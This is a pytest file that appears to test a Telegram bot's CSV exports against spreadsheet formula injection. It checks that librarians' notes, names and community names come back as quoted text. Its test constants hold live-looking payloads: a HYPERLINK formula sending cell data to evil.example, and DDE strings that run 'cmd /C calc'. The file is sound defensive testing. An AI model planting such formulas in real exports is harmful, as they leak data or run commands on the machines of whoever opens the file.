"""CSV exports never run formulas (issue 27, point 4): what librarians typed, their community
names and their Telegram first names reach every CSV as text. The files are written to disk
and read back with the csv module, as a spreadsheet would open them."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from bot.app.registry import Service
from dialogs.catalog import Catalog
from storage.store import Store
from tests.access_helpers import Clock, full_service
from tests.chat import Chat

ADMIN = 9_000_001
LEAK = '=HYPERLINK("http://evil.example/?leak="&H3;"klik")'
CALC = "+1+cmd|' /C calc'!A0"
ATTACKS = [LEAK, CALC, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet would run (CR as LF)
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


@pytest.fixture
def store(db_path: Path) -> Store:
    s = Store(db_path, clock=Clock())
    yield s  # type: ignore[misc]
    s.close()


@pytest.fixture
def service(store: Store, catalog: Catalog, tmp_path: Path) -> Service:
    return full_service(store, catalog, tmp_path / "data", admins=(ADMIN,))


def read_back(content: bytes, path: Path) -> list[list[str]]:
    """The file as saved from Telegram and opened again."""
    path.write_bytes(content)
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=";"))


def live_cells(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would take as a formula."""
    return [cell for row in table for cell in row
            if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]


def shown(text: str) -> str:
    """How an attack string comes back: one leading quote, line ends as \\n."""
    return "'" + text.replace("\r", "\n")


def test_export_csv_shows_formulas_in_notes_names_and_communities_as_text(
        service: Service, tmp_path: Path) -> None:
    anna = Chat(service, telegram_id=1001, name=LEAK)  # her Telegram first name
    anna.onboard(CALC)
    for attack in ATTACKS:
        anna.send(attack)
    anna.send("-12")  # a plain negative number stays one
    anna.send("/export")
    anna.press("Alles")
    anna.press("CSV")
    (document,) = [a for r in anna.last.replies for a in r.attachments]
    table = read_back(document.content, tmp_path / "export.csv")
    assert live_cells(table) == []
    header, rows = table[0], table[1:]
    texts = [row[header.index("tekst")] for row in rows]
    for attack in ATTACKS:
        assert shown(attack) in texts, attack
    assert "-12" in texts
    assert {row[header.index("community")] for row in rows} == {shown(CALC)}
    assert shown(LEAK) in {row[header.index("wie")] for row in rows}


def test_overview_csv_shows_an_invited_librarians_names_to_the_admin_as_text(
        service: Service, tmp_path: Path) -> None:
    """The attack crosses users: the invited librarian types, the admin opens the file."""
    invited = Chat(service, telegram_id=1002, name=CALC)
    invited.onboard(LEAK)
    boss = Chat(service, telegram_id=ADMIN, name="Bea")
    boss.send("/overzicht")
    boss.press("CSV")
    (document,) = boss.last.replies[0].attachments
    table = read_back(document.content, tmp_path / "overzicht.csv")
    assert live_cells(table) == []
    assert table[1][:3] == [shown(LEAK), shown(CALC), shown(CALC)]
    assert table[1][3:9] == ["0"] * 6  # counts stay numbers
